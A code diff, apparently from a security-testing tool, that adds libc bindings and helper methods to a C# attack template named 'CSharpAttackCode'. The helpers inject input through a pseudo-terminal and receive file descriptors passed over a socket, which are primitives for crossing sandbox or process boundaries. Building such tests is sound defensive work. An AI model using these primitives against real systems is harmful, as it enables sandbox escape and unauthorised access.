@@ -13,6 +13,7 @@ internal sealed class CSharpAttackCode() : AttackCode("csharp", ".net-csharp")
         using System.Net.Sockets;
         using System.Runtime.InteropServices;
         using System.Text;
+        using Microsoft.Win32.SafeHandles;
 
         public static class Wall
         {
@@ -32,6 +33,31 @@ internal sealed class CSharpAttackCode() : AttackCode("csharp", ".net-csharp")
                 {
                     throw new Exception(Marshal.GetPInvokeErrorMessage(error));
                 }
+            }
+
+            [DllImport("libc", EntryPoint = "openpty", SetLastError = true)]
+            private static extern int OpenTerminal(out int master, out int slave, IntPtr name, IntPtr settings, IntPtr size);
+
+            [DllImport("libc", EntryPoint = "close")]
+            private static extern int Close(int descriptor);
+
+            [DllImport("libc", EntryPoint = "recvmsg", SetLastError = true)]
+            private static extern nint ReceiveMessage(int socket, IntPtr header, int flags);
+
+            public static void Type(long request)
+            {
+                if (OpenTerminal(out var master, out var slave, 0, 0, 0) != 0) throw new Exception("no terminal");
+                try { Call(new int[0], 16, slave, request, Encoding.UTF8.GetBytes("x")); }
+                finally { Close(master); Close(slave); }
+            }
+
+            public static SafeFileHandle ReceiveDescriptor(Socket socket)
+            {
+                var (data, control, vector, header) = (Marshal.AllocHGlobal(8), Marshal.AllocHGlobal(64), Marshal.AllocHGlobal(16), Marshal.AllocHGlobal(56));
+                Marshal.Copy(new long[] { data, 1 }, 0, vector, 2);
+                Marshal.Copy(new long[] { 0, 0, vector, 1, control, 64, 0 }, 0, header, 7);
+                if (ReceiveMessage((int)socket.Handle, header, 0) <= 0) throw new Exception("nothing came");
+                return new SafeFileHandle(Marshal.ReadInt32(control, 16), true);
             }
 
             public static byte[] Words(params uint[] words) => MemoryMarshal.AsBytes<uint>(words).ToArray();
